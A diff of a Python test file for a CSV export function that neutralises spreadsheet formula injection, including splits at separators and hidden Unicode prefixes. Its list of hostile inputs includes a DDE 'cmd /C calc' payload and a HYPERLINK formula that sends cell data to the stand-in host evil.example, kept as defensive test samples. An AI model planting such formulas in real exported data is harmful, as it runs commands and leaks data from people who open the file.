@@ -1,32 +1,20 @@
-"""S48: a cell that a spreadsheet might run is text, and the value is not lost by it."""
+"""A cell that a spreadsheet might run is text, wherever the spreadsheet splits lines (docs/trail-format.md, 8)."""
 
 import csv
 import io
+import re
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
-from recordings.sheets.cells import csv_cell, csv_column, neutral, original
+from recordings.sheets.cells import csv_cell, csv_column, neutral
 
-RISKY = [
-    "=",
-    "+",
-    "-",
-    "@",
-    "\t",
-    "\r",
-    "\n",
-    "\0",
-    "\uff1d",
-    "\uff0b",
-    "\uff0d",
-    "\uff20",
-    "\ufe66",
-    "\ufe62",
-    "\ufe63",
-    "\ufe6b",
-]
+# The characters of the rule, spelled out here a second time.
+F = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
+UNSEEN = "".join(map(chr, [*range(9), 0xB, 0xC, *range(0xE, 0x21), *range(0x7F, 0xA1), 0xAD, 0x61C]))
+UNSEEN += "".join(map(chr, [ord('"'), 0x1680, 0x180E, *range(0x2000, 0x2010), *range(0x2028, 0x2030)]))
+UNSEEN += "".join(map(chr, [*range(0x205F, 0x2070), 0x3000, 0xFEFF]))
 HOSTILE = [
     "=1+1",
     "+cmd|' /C calc'!A0",
@@ -37,53 +25,80 @@ HOSTILE = [
     "\n=1+1",
     "\0=1+1",
     " =1+1",
+    '"=1+1',
     "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u2060=1+1",
+    "\u061c=1+1",
     "\uff1d1+1",
     '=HYPERLINK("https://evil.example/?x="&A1,"open")',
 ]
 
 
+def by_the_rule(value: str) -> str:
+    """The rule of the format, letter by letter."""
+
+    def runs(rest: str) -> bool:
+        return rest.lstrip(UNSEEN)[:1] != "" and rest.lstrip(UNSEEN)[0] in F
+
+    cell = ""
+    for at, letter in enumerate(value):
+        cell += letter + ("'" if letter in ";\t\r\n" and runs(value[at + 1 :]) else "")
+    return f"'{cell}" if value[:1] and (value[0] in "'\t\r\n\0" or runs(value)) else cell
+
+
 @pytest.mark.parametrize("value", HOSTILE)
 def test_a_formula_becomes_text(value: str) -> None:
-    assert neutral(value) == "'" + value
+    assert neutral(value).startswith("'")
 
 
 @pytest.mark.parametrize(
-    "value", ["", "Noa Levi", "דנה מרלו", "a=b", "1-2", "2026-11-20T09:14:22.000000Z", "مريم"]
+    ("value", "cell"),
+    [
+        ("x;=1+1;y", "x;'=1+1;y"),
+        ("a\t \u200b=1", "a\t' \u200b=1"),
+        (";@x", ";'@x"),
+        ("x\r\n=1", "x\r\n'=1"),
+        ("\n=1", "'\n'=1"),
+        ("a; b", "a; b"),
+    ],
+)
+def test_so_does_one_behind_a_separator(value: str, cell: str) -> None:
+    assert neutral(value) == cell
+
+
+@pytest.mark.parametrize(
+    "value", ["", "Noa Levi", "דנה מרלו", "a=b", "1-2", "2026-11-20T09:14:22.000000Z", "مريم", "a;b", "a, b"]
 )
 def test_what_is_no_formula_stays_as_it_is(value: str) -> None:
     assert neutral(value) == value
 
 
-def test_a_name_that_begins_with_an_apostrophe_comes_back_whole() -> None:
-    assert original(neutral("'s-Gravenhage")) == "'s-Gravenhage"
+texts = st.text() | st.text(st.sampled_from([*F, *UNSEEN, *";\t\r\n,'\"", "a", "1"]))
 
 
-values = st.text() | st.builds(str.__add__, st.sampled_from([*RISKY, "'", " ", '"', ","]), st.text())
+@given(texts)
+@example("x;'=1")
+def test_a_cell_is_what_the_rule_says(value: str) -> None:
+    assert neutral(value) == by_the_rule(value)
 
 
-@given(values)
-def test_every_value_comes_back(value: str) -> None:
-    assert original(neutral(value)) == value
+@given(texts)
+def test_no_part_of_a_cell_is_a_formula_wherever_it_is_split(value: str) -> None:
+    for part in re.split("[;\t\r\n]", csv_cell(value)):
+        assert part.lstrip(UNSEEN)[:1] not in [*F]
 
 
-@given(values)
-def test_no_cell_begins_a_formula(value: str) -> None:
-    cell = neutral(value)
-    assert not cell.startswith(tuple(RISKY))
-    assert not cell.lstrip().startswith(tuple(RISKY))
-
-
-@given(st.lists(values, min_size=2, max_size=5))
+@given(st.lists(texts, min_size=2, max_size=5))
 def test_a_line_is_what_a_csv_writer_writes_and_comes_back(row: list[str]) -> None:
     out = io.StringIO(newline="")
     csv.writer(out).writerow(map(neutral, row))
     line = ",".join(map(csv_cell, row)) + "\r\n"
     assert line == out.getvalue()
-    read = next(csv.reader(io.StringIO(line, newline="")))
-    assert [original(cell) for cell in read] == row
+    assert next(csv.reader(io.StringIO(line, newline=""))) == list(map(neutral, row))
 
 
-@given(st.lists(values | st.sampled_from(["Noa Levi", "user:7", "", "\x1f=1", "\x1f"]), max_size=5))
+@given(st.lists(texts | st.sampled_from(["Noa Levi", "user:7", "", "\x1f=1", "\x1f", "x;=1"]), max_size=5))
 def test_a_column_is_its_cells(column: list[str]) -> None:
     assert list(csv_column(column)) == list(map(csv_cell, column))
